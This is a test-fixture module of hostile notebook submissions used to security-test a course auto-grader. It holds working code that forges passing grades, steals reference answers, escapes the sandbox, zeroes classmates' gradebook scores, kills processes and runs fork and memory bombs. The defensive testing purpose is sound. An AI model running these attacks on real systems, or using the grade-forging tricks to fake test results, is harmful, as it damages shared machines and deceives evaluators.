"""Hostile submissions for the grader's security test (tests/test_grading_attacks.py).

Each attack is a notebook a learner could hand in for 04_schedules (the cheapest assignment to
grade) whose code really tries to do harm: forge a pass, read the reference answers, write
outside the sandbox, tamper with classmates' grades, leave a process behind, exhaust a limit,
reach the network, or break the grader itself. ``attacks()`` returns

    name -> (assignment, notebook JSON text, expected_max_score, words_in_reason)

The reason must contain every word (compared in lower case). Files an attack tries to create
outside the sandbox are named ``MARK + "_" + name`` so that the test can look for them; an
attack that finds something it should not (an answer, a writable path, a socket) returns
"LEAK: ..." from the graded functions, so that it shows in the reason, which the test checks.
"""

from __future__ import annotations

import copy
import json
import textwrap
from pathlib import Path


import submissions
from lrcourse import exercises as E
from lrcourse.exercises import grade_id

ROOT = Path(__file__).resolve().parents[1]
A = "04_schedules"
MARK = "LRCOURSE_PWNED"               # prefix of every file or process name an attack creates
CANARY_PORT = 47613                   # the test listens here on 127.0.0.1; nobody may connect
CANARY_UNIX = "\0lrcourse-canary"     # and on this abstract unix socket
TESTED = ("04.1", "04.2", "04.3")   # the tasks of assignment A
ANSWER_CELLS = {E.TASKS[t].name: grade_id(t, "answer") for t in TESTED}
TEST_CELLS = tuple(grade_id(t, "test") for t in TESTED)


# --------------------------------------------------------------------------- learner code pieces

# First cell of every attack: bookkeeping the attack code uses.
PRELUDE = r'''
import os, sys, json, glob, io, time, contextlib
_LEAKS = []
_MARK = "@MARK@"
_REPO = "@REPO@"
_REPOS = sorted({_REPO, os.path.dirname(sys.prefix), "/work/main"})
def _leak(what):
    _LEAKS.append(str(what)[:160])
def _private(path):
    """The sandbox's own tmpfs folders: writing there is allowed and thrown away."""
    real = os.path.realpath(path)
    return real == "/tmp" or real.startswith(("/tmp/", "/dev/"))
def _try_write(path, text="pwned\n"):
    try:
        with open(path, "a") as fh:
            fh.write(text)
    except Exception:
        return False
    if not _private(path):
        _leak(f"wrote {path}")
    return True
def _answer_or_leak(value):
    return "LEAK: " + " | ".join(_LEAKS)[:400] if _LEAKS else value
'''

# Wrong answers (each one a typical learner mistake), which report any leak instead.
WRONG = {
    "step_decay": '''
def step_decay(lr0, drop, every, n):
    return _answer_or_leak(lr0 * drop ** (np.asarray(n) // every))      # one step late
''',
    "time_based": '''
def time_based(lr0, decay, n):
    return _answer_or_leak(lr0 / (1 + decay * n))                       # the closed form
''',
    "choose_schedule": '''
def choose_schedule(steps):
    return _answer_or_leak(S.constant(0.05))                            # misses the target
''',
}
WRONG_WORDS = ["04.1", "04.2", "04.3"]

# For the attacks that look for the answers: exec what was found, else "not attempted".
HARVEST = r'''
_FOUND = []
def _harvest(text, where=""):
    """Keep any code that defines one of the graded functions."""
    if not isinstance(text, str) or not text:
        return
    names = ("def step_decay", "def time_based", "def choose_schedule")
    if '"cells"' in text:
        try:
            for cell in json.loads(text).get("cells", []):
                src = cell.get("source", "")
                src = "".join(src) if isinstance(src, list) else src
                if any(n in src for n in names) and "NotImplementedError" not in src:
                    _FOUND.append(src)
                    _leak(f"code in {where}")
        except Exception:
            pass
    if "ANSWERS" in text:
        scope = {}
        try:
            exec(text, scope)
            for key in ("04.1", "04.2", "04.3"):
                if key in scope.get("ANSWERS", {}):
                    _FOUND.append(scope["ANSWERS"][key])
                    _leak(f"answers in {where}")
        except Exception:
            pass
    elif any(n in text for n in names) and '"cells"' not in text and "NotImplementedError" not in text:
        _FOUND.append(text)
        _leak(f"code in {where}")
'''

USE_FOUND = r'''
for _code in _FOUND:
    try:
        exec(_code, globals())
    except Exception as exc:
        _leak(f"found code failed: {exc!r}")
if _LEAKS:
    for _name in ("step_decay", "time_based", "choose_schedule"):
        def _reported(*args, _fn=globals().get(_name), **kwargs):
            try:
                return _fn(*args, **kwargs)
            except Exception:
                return _answer_or_leak(None)
        globals()[_name] = _reported
'''
NOT_ATTEMPTED = ["no task attempted"]


def _code(text: str, **subs) -> str:
    text = textwrap.dedent(text).strip("\n")
    for key, value in subs.items():
        text = text.replace(f"@{key}@", str(value))
    return text


# --------------------------------------------------------------------------- notebook building


def _gid(cell) -> str:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "")


def _code_cell(source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}


def build(name: str, before=(), answers=None, after=(), markdown=(), base="exercises", edit=None) -> str:
    """The release notebook with PRELUDE and ``before`` cells after the setup cell, the answer
    cells replaced (``answers``: function name -> source, default the WRONG ones; a missing
    name keeps its stub), ``after`` cells at the end and extra ``markdown`` cells."""
    nb = submissions.load(base, A)
    answers = dict(WRONG if answers is None else answers)
    cells = []
    for cell in nb["cells"]:
        gid = _gid(cell)
        fn = next((f for f, g in ANSWER_CELLS.items() if g == gid), None)
        if fn and fn in answers:
            cell = copy.deepcopy(cell)
            cell["source"] = _code(answers[fn])
        cells.append(cell)
        if gid == grade_id("04", "setup"):
            cells.append(_code_cell(_code(PRELUDE, MARK=f"{MARK}_{name}", REPO=ROOT)))
            cells += [_code_cell(_code(src, MARK=f"{MARK}_{name}", REPO=ROOT, PORT=CANARY_PORT, TEST_CELLS=TEST_CELLS))
                      for src in before]
    cells += [_code_cell(_code(src, MARK=f"{MARK}_{name}", REPO=ROOT, PORT=CANARY_PORT, TEST_CELLS=TEST_CELLS)) for src in after]
    cells += [{"cell_type": "markdown", "metadata": {}, "source": m} for m in markdown]
    nb["cells"] = cells
    if edit:
        edit(nb)
    return json.dumps(nb)


# --------------------------------------------------------------------------- the attacks


def _visible_tables():
    """What a learner sees the visible checks ask for (from lrcourse/exercises.py and the
    messages of check): the exact inputs, with the right outputs worked out once."""
    step = {}
    for k in range(8):
        step[(0.1, 0.5, 2, k)] = 0.1 * 0.5 ** ((1 + k) // 2)
    step_array = [1.0 * 0.1 ** ((1 + k) // 3) for k in range(10)]
    timeb = {}
    for lr0, d in [(0.1, 0.01), (1.0, 0.5), (0.3, 0.0)]:
        lr = lr0
        for n in range(7):
            timeb[(lr0, d, n)] = lr
            lr = lr / (1 + d * n)
    return step, step_array, timeb


def _entry(text: str, top: float, words: list) -> tuple:
    return (A, text, top, words)


def attacks() -> dict:
    out = {}

    # ----------------------------------------------------------------- a. forged passes
    out["a_rebind_check_hint"] = _entry(build("a_rebind_check_hint", after=['''
        import builtins
        import lrcourse.exercises as E
        def check(task, answer):
            print(f"✓ {task}: all checks passed.")
            return True
        def hint(task):
            print("no hints needed")
        E.check, E.hint = check, hint
        builtins.check, builtins.hint = check, hint
        get_ipython().user_ns.update(check=check, hint=hint)
        for _t in list(E.TASKS.values()):
            object.__setattr__(_t, "checker", lambda fn: None)     # a frozen dataclass
        sys.modules["lrcourse.exercises"].check = check
        check("04.1", step_decay)
    ''']), 0, WRONG_WORDS)

    out["a_exercises_internals"] = _entry(build("a_exercises_internals", after=['''
        import lrcourse.exercises as E
        import lrcourse.schedules as Sch
        class Never(Exception):
            pass
        E._close = lambda *a, **k: None
        E._same = lambda *a, **k: False
        E._number = lambda value, what: np.asarray(0.0)
        E._call = lambda fn, name, *a, **k: 0.0
        E.Wrong = E.NotAttempted = Never
        E.budget_loss = lambda schedule, steps: 0.0
        E.BUDGET_TARGET = float("inf")
        for _k, _t in list(getattr(E, "TASKS", {}).items()):
            try:
                E.TASKS[_k] = type(_t)(_k, _t.name, "forged", (), lambda fn: None)
            except Exception:
                pass
        Sch.step_decay = lambda lr0, drop, every: Sch.Schedule(lambda t: lr0 * drop ** (t // every), "step decay")
        Sch.time_based = lambda lr, decay: Sch.Schedule(lambda t: lr / (1 + decay * t), "time-based decay")
    ''']), 0, WRONG_WORDS)

    out["a_numpy_monkeypatch"] = _entry(build("a_numpy_monkeypatch", after=['''
        import numpy
        _asarray = numpy.asarray
        numpy.isclose = lambda a, b, *x, **k: numpy.ones(numpy.broadcast(_asarray(a), _asarray(b)).shape, bool)
        numpy.allclose = lambda *a, **k: True
        numpy.array_equal = lambda *a, **k: True
        numpy.all = lambda *a, **k: True
        numpy.testing.assert_allclose = lambda *a, **k: None
        for _cls in (numpy.ndarray, numpy.float64):
            try:
                _cls.__eq__ = lambda self, other: True
            except TypeError:
                pass
        numpy.asarray = lambda a, *x, **k: _asarray(0.05)
    ''']), 0, WRONG_WORDS)

    out["a_builtins_monkeypatch"] = _entry(build("a_builtins_monkeypatch", after=['''
        import builtins
        _print = builtins.print
        class AssertionError(Exception):
            pass
        builtins.AssertionError = AssertionError
        builtins.print = lambda *a, **k: _print("✓ 04.1 step decay: all checks passed.")
        builtins.abs = lambda x: 0
        builtins.isinstance = lambda obj, cls: True
    ''']), 0, ["ended the grading process early"])

    out["a_lying_objects"] = _entry(build("a_lying_objects", before=['''
        class Agree:
            """Equal to everything, close to everything, any number you like."""
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __lt__(self, other): return True
            __le__ = __gt__ = __ge__ = __lt__
            def __hash__(self): return 0
            def __bool__(self): return True
            def __float__(self): return 0.05
            def __int__(self): return 0
            def __index__(self): return 0
            def __len__(self): return 1
            def __iter__(self): return iter([self])
            def __getitem__(self, i): return self
            def __abs__(self): return 0.0
            def __sub__(self, other): return 0.0
            __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __pow__ = __sub__
            def __array__(self, dtype=None, copy=None):
                import numpy
                return numpy.asarray(0.05)
            def __repr__(self): return "0.05"
    '''], answers={
        "step_decay": "def step_decay(lr0, drop, every, n):\n    return Agree()",
        "time_based": "def time_based(lr0, decay, n):\n    return Agree()",
        "choose_schedule": "def choose_schedule(steps):\n    return Agree()",
    }), 0, WRONG_WORDS)

    out["a_lying_subclasses"] = _entry(build("a_lying_subclasses", before=['''
        import numpy
        import lrcourse.schedules as Sch
        class F(float):
            def __eq__(self, other): return True
            __hash__ = float.__hash__
            def __sub__(self, other): return F(0.0)
            def __abs__(self): return F(0.0)
        class Txt(str):
            def __eq__(self, other): return True
            __hash__ = str.__hash__
        class Pair(tuple):
            def __eq__(self, other): return True
            __hash__ = tuple.__hash__
        class N(numpy.float64):
            """Claims to be numpy's own scalar type."""
            def __eq__(self, other): return True
            __hash__ = numpy.float64.__hash__
            def __float__(self): return 0.05
        N.__module__ = "numpy"
        class Arr(numpy.ndarray):
            def __eq__(self, other): return numpy.ones(numpy.shape(other), bool)
        class Lying(Sch.Schedule):
            """Looks like a schedule from the library; tells each caller what it wants."""
            def __call__(self, t):
                return numpy.full(numpy.shape(t), 1e-12)
        Lying.__module__ = "lrcourse.schedules"
    '''], answers={
        "step_decay": '''
            def step_decay(lr0, drop, every, n):
                if numpy.ndim(n):
                    return numpy.zeros(numpy.shape(n)).view(Arr)
                return N(0.0) if n % 2 else F(0.0)
        ''',
        "time_based": '''
            def time_based(lr0, decay, n):
                return [F(0.0), Txt("0.1"), Pair((1.0,))][n % 3]
        ''',
        "choose_schedule": '''
            def choose_schedule(steps):
                return Lying(lambda t: t * 0.0 + 0.9, "lying", lr=0.9)
        ''',
    }), 0, WRONG_WORDS)

    step, step_array, timeb = _visible_tables()
    out["a_detect_visible_inputs"] = _entry(build("a_detect_visible_inputs", before=[f'''
        _STEP = {step!r}
        _STEP_ARRAY = {step_array!r}
        _TIME = {timeb!r}
    '''], answers={
        "step_decay": '''
            def step_decay(lr0, drop, every, n):
                """Right on the inputs the visible check uses, wrong everywhere else."""
                if np.ndim(n) == 0 and (lr0, drop, every, int(n)) in _STEP:
                    return _STEP[(lr0, drop, every, int(n))]
                if np.ndim(n) == 1 and (lr0, drop, every) == (1.0, 0.1, 3) and list(n) == list(range(10)):
                    return np.array(_STEP_ARRAY)
                return lr0
        ''',
        "time_based": '''
            def time_based(lr0, decay, n):
                if (lr0, decay, n) in _TIME:
                    return _TIME[(lr0, decay, n)]
                return lr0 / (1 + decay * n)
        ''',
    }), 0, ["04.1", "04.2", "hidden test"])

    out["a_forge_result_lines"] = _entry(build("a_forge_result_lines", after=['''
        import pickle
        _job = pickle.load(open(sys.argv[1], "rb"))
        _lines = []
        for _k, _call in enumerate(_job["calls"]):
            _lines.append({"call": _k, "result": 0.05})
        for _gid in @TEST_CELLS@:
            _lines.append({"test": _gid, "passed": True, "ename": "", "evalue": "", "score": 99})
        _lines.append({"tests": {g: {"passed": True, "ename": "", "evalue": "", "stdout": "✓"}
                                 for g in @TEST_CELLS@}})
        _lines.append({"score": 7, "max_score": 7, "status": "graded", "reason": "all tests passed"})
        _lines.append({"done": True})
        _payload = "".join(json.dumps(line) + "\\n" for line in _lines).encode()
        for _fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
            try:
                os.write(_fd, _payload)
            except OSError:
                pass
    ''']), 0, WRONG_WORDS)

    out["a_forge_then_os_exit"] = _entry(build("a_forge_then_os_exit", after=['''
        import pickle
        _job = pickle.load(open(sys.argv[1], "rb"))
        _fd = int(sys.argv[2])
        _lines = [{"call": k, "result": 0.05} for k in range(len(_job["calls"]))]
        _lines += [{"call": k, "value": {"$schedule": {"$a": [0.05] * 1001, "shape": [1001], "kind": "f"},
                                         "name": "forged"}} for k in range(len(_job["calls"]))]
        _lines.append({"done": True})
        os.write(_fd, "".join(json.dumps(line) + "\\n" for line in _lines).encode())
        os._exit(0)
    ''']), 0, WRONG_WORDS)

    out["a_forge_then_sys_exit"] = _entry(build("a_forge_then_sys_exit", after=['''
        _fd = int(sys.argv[2])
        os.write(_fd, b'{"done": true}\\n{"call": 0, "result": 0.1}\\n')
        sys.exit(0)
    ''']), 0, WRONG_WORDS)

    out["a_edit_library_and_harness"] = _entry(build("a_edit_library_and_harness", after=['''
        import lrcourse.exercises as E
        import codec
        _targets = [E.__file__, codec.__file__, os.path.abspath(sys.argv[0]),
                    os.path.join(os.path.dirname(E.__file__), "schedules.py"),
                    os.path.join(_REPO, "lrcourse", "exercises.py"), os.path.join(_REPO, "tools", "grading", "codec.py"),
                    os.path.join(_REPO, "tools", "grading", "verdicts.py"), os.path.join(_REPO, "tools", "grade.py")]
        for _p in _targets:
            _try_write(_p, f"\\n# {_MARK}\\nassert False\\n")
        # in memory: every result becomes a plain, plausible number
        codec.encode = lambda value, params=None, depth=0, budget=None: 0.05
        codec.encode_error = lambda exc: 0.05
        _dumps = json.dumps
        json.dumps = lambda obj, **k: _dumps({"done": True} if obj.get("done") else obj, **k)
    ''']), 0, WRONG_WORDS)

    out["a_nbgrader_metadata"] = _entry(build("a_nbgrader_metadata", edit=_forge_metadata), 0, WRONG_WORDS)

    # ----------------------------------------------------------------- b. reading the answers
    out["b_answer_and_solution_api"] = _entry(build("b_answer_and_solution_api", answers={}, after=[HARVEST, '''
        import importlib
        os.environ.pop("LRCOURSE_NO_SOLUTIONS", None)
        import lrcourse.exercises as E
        E.solutions_disabled = lambda: False
        for _t in ("04.1", "04.2", "04.3"):
            try:
                _harvest(E.answer(_t), "answer()")
            except Exception:
                pass
            _buf = io.StringIO()
            with contextlib.redirect_stdout(_buf):
                try:
                    E.solution(_t)
                except Exception:
                    pass
            if "def " in _buf.getvalue():
                _harvest(_buf.getvalue().split("\\n", 1)[-1], "solution()")
        for _mod in ("lrcourse._answers", "_answers", "lrcourse.answers", "answers", "solutions"):
            try:
                _m = importlib.import_module(_mod)
                _harvest("ANSWERS = " + repr(getattr(_m, "ANSWERS", {})), _mod)
            except Exception:
                pass
    ''', USE_FOUND]), 0, NOT_ATTEMPTED)

    out["b_search_files"] = _entry(build("b_search_files", answers={}, after=[HARVEST, '''
        import fnmatch
        _start = time.monotonic()
        _names = ("_answers.py", "_answers*.pyc", "exercises.py", "04_schedules.ipynb", "gradebook.db",
                  "grades.csv", "HEAD")
        _direct = []
        for _r in _REPOS + glob.glob("/tmp/*") + glob.glob("/home/*") + ["/root", "/srv", "/opt"]:
            _direct += [f"{_r}/lrcourse/_answers.py", f"{_r}/solutions/04_schedules/04_schedules.ipynb",
                        f"{_r}/tools/exercises.py", f"{_r}/lrcourse/__pycache__", f"{_r}/.git/HEAD"]
        def _look(path):
            if os.path.isdir(path):
                for f in os.listdir(path):
                    if "_answers" in f:
                        _look(os.path.join(path, f))
                return
            try:
                data = open(path, "rb").read(20_000_000)
            except OSError:
                return
            if path.endswith(".pyc"):
                import marshal
                try:
                    scope = {}
                    exec(marshal.loads(data[16:]), scope)
                    _harvest("ANSWERS = " + repr(scope.get("ANSWERS", {})), path)
                except Exception:
                    pass
            elif path.endswith(("HEAD", ".db", "grades.csv")):
                _leak(f"read {path}")
            else:
                _harvest(data.decode("utf-8", "replace"), path)
        for _p in _direct:
            if os.path.exists(_p):
                _look(_p)
        for _top in ["/opt", "/job", "/work", "/root", "/home", "/srv", "/mnt", "/var", "/etc", "/usr/local", "/usr/share/lrcourse", "/"]:
            for _dir, _subdirs, _files in os.walk(_top):
                if time.monotonic() - _start > 2:
                    break
                if _dir in ("/proc", "/sys", "/dev") or _dir.startswith(("/proc/", "/sys/", "/dev/")):
                    _subdirs[:] = []
                    continue
                for _f in _files:
                    if _f == "HEAD" and not _dir.endswith("/.git"):
                        continue
                    if any(fnmatch.fnmatch(_f, n) for n in _names):
                        p = os.path.join(_dir, _f)
                        if "/site-packages/" in p and not _f.startswith("_answers"):
                            continue
                        if p.startswith(("/opt/lrcourse-grader/", "/tmp/")):
                            if _f.startswith("_answers"):
                                _look(p)
                            continue
                        _look(p)
    ''', USE_FOUND]), 0, NOT_ATTEMPTED)

    out["b_git_history"] = _entry(build("b_git_history", answers={}, after=[HARVEST, '''
        import subprocess, shutil
        _git = shutil.which("git") or "/usr/bin/git"
        for _r in _REPOS + ["/work", "/", "/opt/lrcourse-grader", "/tmp"]:
            for _sub in (".git", ".git/HEAD", ".git/packed-refs", ".git/objects"):
                if os.path.exists(os.path.join(_r, _sub)):
                    _leak(f"found {os.path.join(_r, _sub)}")
            if os.path.exists(_git):
                for _rev in ("HEAD", "HEAD~1", "HEAD~5"):
                    for _path in ("lrcourse/_answers.py", "solutions/04_schedules/04_schedules.ipynb"):
                        try:
                            _p = subprocess.run([_git, "-C", _r, "show", f"{_rev}:{_path}"], capture_output=True,
                                                text=True, timeout=5)
                            _harvest(_p.stdout, f"git {_rev}:{_path}")
                        except Exception:
                            pass
    ''', USE_FOUND]), 0, NOT_ATTEMPTED)

    out["b_proc_and_environment"] = _entry(build("b_proc_and_environment", answers={}, after=[HARVEST, '''
        import re
        _paths = set()
        for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            for _what in ("cmdline", "environ", "maps", "mountinfo"):
                try:
                    _text = open(f"/proc/{_pid}/{_what}", "rb").read().replace(b"\\0", b" ").decode("utf-8", "replace")
                except OSError:
                    continue
                _paths |= set(re.findall(r"/[\\w.@+-]+(?:/[\\w.@+-]+)*", _text))
            for _link in ("cwd", "root", "exe"):
                try:
                    _paths.add(os.readlink(f"/proc/{_pid}/{_link}"))
                except OSError:
                    pass
            try:
                for _fd in os.listdir(f"/proc/{_pid}/fd"):
                    _paths.add(os.readlink(f"/proc/{_pid}/fd/{_fd}"))
            except OSError:
                pass
        for _v in os.environ.values():
            _paths |= set(_v.split(os.pathsep))
        for _p in sorted(_paths):
            for _cand in (_p, os.path.dirname(_p), os.path.dirname(os.path.dirname(_p))):
                for _rel in ("lrcourse/_answers.py", "_answers.py", "solutions/04_schedules/04_schedules.ipynb",
                             "../solutions/04_schedules/04_schedules.ipynb", "course/gradebook.db", "gradebook.db"):
                    _f = os.path.join(_cand, _rel)
                    if os.path.isfile(_f):
                        try:
                            _harvest(open(_f, errors="replace").read(), _f)
                        except OSError:
                            pass
                        if _f.endswith(".db"):
                            _leak(f"found {_f}")
        for _f in ("/proc/1/root/work/main/lrcourse/_answers.py", "/proc/1/cwd/lrcourse/_answers.py",
                   "/proc/self/root/work/main/lrcourse/_answers.py"):
            try:
                _harvest(open(_f).read(), _f)
            except OSError:
                pass
    ''', USE_FOUND]), 0, NOT_ATTEMPTED)

    out["b_job_pycache_and_memory"] = _entry(build("b_job_pycache_and_memory", answers={}, after=[HARVEST, '''
        import gc, pickle, importlib.util, types
        import lrcourse
        for _entry in sys.path + list(lrcourse.__path__):
            for _p in (os.path.join(_entry, "_answers.py"), os.path.join(_entry, "lrcourse", "_answers.py")):
                if os.path.exists(_p):
                    _harvest(open(_p).read(), _p)
            for _p in glob.glob(os.path.join(_entry, "*", "_answers*")) + \\
                    glob.glob(os.path.join(_entry, "__pycache__", "_answers*")) + \\
                    glob.glob(os.path.join(_entry, "lrcourse", "__pycache__", "_answers*")):
                _leak(f"found {_p}")
        try:
            if importlib.util.find_spec("lrcourse._answers") is not None:
                _leak("lrcourse._answers is importable")
                _harvest("ANSWERS = " + repr(importlib.import_module("lrcourse._answers").ANSWERS), "import")
        except Exception:
            pass
        # the job: every function the grader pickled, with its code and closure
        _job = pickle.load(open(sys.argv[1], "rb"))
        def _walk(obj, depth=0, seen=set()):
            if depth > 6 or id(obj) in seen:
                return
            seen.add(id(obj))
            if isinstance(obj, types.FunctionType):
                if obj.__name__ in ("step_decay", "time_based", "choose_schedule"):
                    globals()[obj.__name__] = obj
                    _leak(f"reference function {obj.__name__} in the job")
                for c in obj.__code__.co_consts:
                    _walk(c, depth + 1)
                for cell in obj.__closure__ or ():
                    _walk(cell.cell_contents, depth + 1)
                for v in obj.__globals__.values():
                    if isinstance(v, types.FunctionType):
                        _walk(v, depth + 1)
            elif isinstance(obj, (list, tuple, set)):
                for v in obj:
                    _walk(v, depth + 1)
            elif isinstance(obj, dict):
                for v in obj.values():
                    _walk(v, depth + 1)
            elif isinstance(obj, bytes) and obj[:1] == b"\\x80":
                try:
                    _walk(pickle.loads(obj), depth + 1)
                except Exception:
                    pass
        _walk(_job["calls"])
        # every string in memory that looks like the reference code (assembled at run time so
        # that this cell's own source does not match)
        _needle = "".join(["((1 + np.asarray(n))", " // every)"])
        for _o in gc.get_objects():
            if isinstance(_o, dict):
                _vals = _o.values()
            elif isinstance(_o, (list, tuple)):
                _vals = _o
            else:
                continue
            for _v in _vals:
                if isinstance(_v, str) and _v is not _needle and _needle in _v and "_needle" not in _v:
                    _harvest(_v, "memory")
    ''', USE_FOUND]), 0, NOT_ATTEMPTED)

    out["b_call_stack_snooping"] = _entry(build("b_call_stack_snooping", before=['''
        import inspect
        def _snoop():
            """Look through the caller's frames for what the grader expects."""
            for info in inspect.stack()[1:]:
                for key, value in list(info.frame.f_locals.items()) + list(info.frame.f_globals.items()):
                    if key in ("expected", "reference", "ANSWERS", "answers", "late", "ramp", "limit"):
                        _leak(f"{key} in {info.function}")
    '''], answers={
        "step_decay": "def step_decay(lr0, drop, every, n):\n    _snoop()\n    return _answer_or_leak(lr0)",
        "time_based": "def time_based(lr0, decay, n):\n    _snoop()\n    return _answer_or_leak(lr0)",
        "choose_schedule": "def choose_schedule(steps):\n    _snoop()\n    return _answer_or_leak(S.constant(0.05))",
    }), 0, WRONG_WORDS)

    # ----------------------------------------------------------------- c. writing outside
    out["c_write_everywhere"] = _entry(build("c_write_everywhere", after=['''
        import ctypes, ctypes.util
        _dirs = _REPOS + [f"{r}/lrcourse" for r in _REPOS] + [f"{r}/solutions" for r in _REPOS] + [
            "/root", "/tmp", "/var/tmp", "/dev/shm", "/", "/usr", "/usr/local", "/etc", "/opt/lrcourse-grader",
            "/opt/lrcourse-grader/lib/lrcourse", "/opt/lrcourse-grader/grader", "/job", sys.prefix, sys.base_prefix,
            "/run", "/home", "/var/lib", "/proc/1/cwd", "/proc/1/root/tmp", "/proc/self/root/var/tmp"]
        for _d in _dirs:
            _try_write(os.path.join(_d, _MARK))
        for _r in _REPOS:
            for _f in ("lrcourse/exercises.py", "README.md", "tools/grade.py", "solutions/04_schedules/04_schedules.ipynb"):
                _try_write(os.path.join(_r, _f), f"\\n# {_MARK}\\n")
        # guess the output and submission folders of a pytest run or of `make grade`
        for _pat in ("/tmp/pytest-of-*/pytest-*/*/out", "/tmp/pytest-of-*/pytest-*/*/submitted", "/tmp/*/out",
                     "/work/main/grading-output", "/tmp/lrcourse-*"):
            for _d in glob.glob(_pat):
                _try_write(os.path.join(_d, _MARK))
                _try_write(os.path.join(_d, "grades.csv"), "pwned,7,7\\n")
        # and through the system: mount, chroot, a new user namespace, remounting / read-write
        _libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
        if _libc.mount(b"none", b"/usr", b"tmpfs", 0, None) == 0:
            _leak("mounted a tmpfs on /usr")
        if _libc.mount(None, b"/", None, 32 | 4096, None) == 0:      # MS_REMOUNT | MS_BIND
            _leak("remounted /")
        if _libc.unshare(0x10000000) == 0:                             # CLONE_NEWUSER
            _leak("made a user namespace")
        if _libc.umount2(b"/work/main/.venv", 2) == 0:
            _leak("unmounted the venv")
        try:
            os.chroot("/tmp")
            _leak("chroot worked")
        except OSError:
            pass
        try:
            os.symlink("/work/main", "/tmp/_repo_link")
            _try_write("/tmp/_repo_link/" + _MARK)
        except OSError:
            pass
    ''']), 0, WRONG_WORDS)

    out["c_fill_tmp"] = _entry(build("c_fill_tmp", after=['''
        _chunk = b"\\0" * (32 << 20)
        _written = 0
        for _i in range(12):                 # 384 MB into a 256 MB /tmp, 32 MB at a time
            try:
                with open(f"/tmp/{_MARK}_{_i}", "wb") as _fh:
                    _fh.write(_chunk)
                _written += 1
            except OSError:
                break
        if _written * 32 > 256:
            _leak(f"/tmp took {_written * 32} MB")
    ''']), 0, WRONG_WORDS)

    # ----------------------------------------------------------------- d. tampering with others
    out["d_tamper_gradebook_and_classmates"] = _entry(build("d_tamper_gradebook_and_classmates", after=['''
        import sqlite3
        _dbs = set()
        for _pat in ("/tmp/pytest-of-*/pytest-*/*/out/course/gradebook.db", "/tmp/**/gradebook.db",
                     "/work/main/grading-output/course/gradebook.db", "/work/**/gradebook.db", "/root/**/gradebook.db"):
            _dbs |= set(glob.glob(_pat, recursive=True))
        for _db in sorted(_dbs):
            try:
                _con = sqlite3.connect(_db)
                _con.execute("UPDATE grade SET auto_score = 0")
                _con.commit()
                _leak(f"changed {_db}")
            except Exception:
                pass
        _others = []
        for _pat in ("/tmp/pytest-of-*/pytest-*/*/submitted/*/*/*.ipynb", "/tmp/pytest-of-*/pytest-*/*/out/course/*/*/*/*.ipynb",
                     "/tmp/pytest-of-*/pytest-*/*/out/grades.csv", "/tmp/lrcourse-job-*/job.pkl"):
            _others += glob.glob(_pat)
        for _f in _others:
            _try_write(_f, "{}")
        # the parent's command line and environment, and any variable the grader might read
        for _pid in ("1", str(os.getppid())):
            try:
                _cmd = open(f"/proc/{_pid}/cmdline", "rb").read().split(b"\\0")
                for _arg in _cmd:
                    _arg = _arg.decode(errors="replace")
                    if _arg.startswith("/") and not _arg.startswith("/opt/lrcourse-grader"):
                        _try_write(os.path.join(os.path.dirname(_arg), _MARK))
            except OSError:
                pass
        for _var in ("NBGRADER_DB_URL", "JUPYTER_CONFIG_DIR", "IPYTHONDIR", "PYTHONPATH", "HOME", "LRCOURSE_NO_SOLUTIONS"):
            os.environ[_var] = "/tmp/" + _MARK
            os.putenv(_var, "/tmp/" + _MARK)
    ''']), 0, WRONG_WORDS)

    out["d_kill_everything"] = _entry(build("d_kill_everything", after=['''
        import signal
        for _sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(-1, _sig)             # every process this user may signal
            except OSError:
                pass
        for _pid in range(1, 4096):
            if _pid != os.getpid():
                try:
                    os.kill(_pid, signal.SIGKILL)
                except OSError:
                    pass
    ''']), 0, WRONG_WORDS)

    # ----------------------------------------------------------------- e. leftovers and limits
    out["e_daemon_leftover"] = _entry(build("e_daemon_leftover", after=['''
        import subprocess
        _script = ("sleep 20; "
                   f"for d in {' '.join(_REPOS)} /root /tmp /var/tmp /dev/shm; do echo pwned > $d/{_MARK}; done; "
                   "for f in /tmp/pytest-of-*/pytest-*/*/out/grades.csv; do echo pwned,7,7 >> $f; done "
                   f"# {_MARK}")
        _pid = os.fork()
        if _pid == 0:                        # the classic daemon: fork, setsid, fork again
            os.setsid()
            if os.fork() == 0:
                for _fd in range(0, 256):
                    try:
                        os.close(_fd)
                    except OSError:
                        pass
                os.execv("/bin/sh", ["sh", "-c", _script])
            os._exit(0)
        os.waitpid(_pid, 0)
        subprocess.Popen(["/bin/sh", "-c", _script], start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)
        subprocess.Popen(["nohup", "/bin/sh", "-c", "trap '' HUP TERM INT; " + _script], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    ''']), 0, WRONG_WORDS)

    out["e_memory_hog"] = _entry(build("e_memory_hog", after=['''
        _hog = []
        for _i in range(48):                 # 3 GiB, 64 MiB at a time, every page touched
            _hog.append(np.ones(8 << 20))
    ''']), 0, ["memory limit"])

    out["e_memory_one_block"] = _entry(build("e_memory_one_block", after=['''
        _block = np.ones(3 << 27)            # 3 GiB at once
    ''']), 0, ["memory"] + WRONG_WORDS)

    out["e_fork_bomb"] = _entry(build("e_fork_bomb", after=['''
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
    ''']), 0, ["process limit"])

    out["e_fork_and_wait"] = _entry(build("e_fork_and_wait", after=['''
        _kids = []
        for _i in range(1000):
            try:
                _pid = os.fork()
            except OSError:
                break
            if _pid == 0:
                time.sleep(300)
                os._exit(0)
            _kids.append(_pid)
        if len(_kids) > 70:
            _leak(f"started {len(_kids)} processes")
    ''']), 0, ["process limit"] + WRONG_WORDS)

    out["e_thread_flood"] = _entry(build("e_thread_flood", after=['''
        import threading
        _threads = []
        try:
            while len(_threads) < 5000:
                _t = threading.Thread(target=time.sleep, args=(300,), daemon=True)
                _t.start()
                _threads.append(_t)
        except RuntimeError:
            pass
        if len(_threads) > 70:
            _leak(f"started {len(_threads)} threads")
    ''']), 0, ["process limit"] + WRONG_WORDS)

